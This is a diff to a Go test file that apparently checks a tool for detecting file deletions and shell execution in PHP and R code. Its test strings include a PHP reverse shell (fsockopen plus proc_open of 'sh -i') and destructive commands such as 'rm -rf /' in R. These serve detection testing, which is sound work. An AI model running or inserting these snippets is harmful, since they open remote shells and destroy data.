@@ -137,6 +137,7 @@ func TestPHP(t *testing.T) {
 		langtest.Of("called by name", `call_user_func("system", "id"); array_map('unlink', glob("*.log"));`, "shell| id", "rm *.log(glob)"),
 		langtest.Of("loops", `foreach (["a", "b"] as $k => $v) { unlink($v); }`, "rm a", "rm b"),
 		langtest.Of("reverse shell", `$s = fsockopen("192.0.2.1", 99); proc_open("sh -i", array(0 => $s, 1 => $s), $p);`, "listen: shell over a connection 192.0.2.1", "shell| sh -i"),
+		langtest.Of("appended to a list", "<?php $a = ['id']; $a[] = <<<'SH'\n  rm x\n  SH;\nforeach ($a as $s) { passthru($s, $rc); }", "shell| id", "shell|   rm x"),
 		langtest.Of("only what stands in tags", "unlink('a') <?php unlink('b'); ?> unlink('c') <?= `id` ?>", "rm b", "shell| id"),
 		langtest.Of("data", "echo \"unlink('x')\"; // unlink('y')\n# system('z')\n$o->unlink('w');"),
 	)
@@ -155,6 +156,7 @@ func TestR(t *testing.T) {
 	langtest.Run(t, in("r"),
 		langtest.Of("files", `unlink("a", recursive = TRUE); unlink('b', recursive=FALSE); fs::dir_delete("d"); file.remove("c")`, "rm -r -f a", "rm -f b", "rm -r d", "rm c"),
 		langtest.Of("commands", `x <- system("rm -rf /srv", intern = TRUE); system2("rm", "-rf /")`, "shell| rm -rf /srv", "shell| rm -rf /"),
+		langtest.Of("variables", `a <- "x"; b <<- "y"; file.remove(a); file.remove(b); if (n < -1) file.remove("z")`, "rm x", "rm y", "rm z"),
 		langtest.Of("parsed", `eval(parse(text = "unlink('a')"))`, "r| unlink('a')"),
 		langtest.Of("texts put together", `d <- "/srv"; system(paste("rm -rf", d)); system(paste0("rm ", d, "/x")); system(sprintf("rm -r %s", d))`, "shell| rm -rf /srv", "shell| rm /srv/x", "shell| rm -r /srv"),
 		langtest.Of("with a text between them", `unlink(paste("/srv", "x", sep = "/")); system(paste(c("rm", "y"), collapse = " "))`, "rm -f /srv/x", "shell| rm y"),
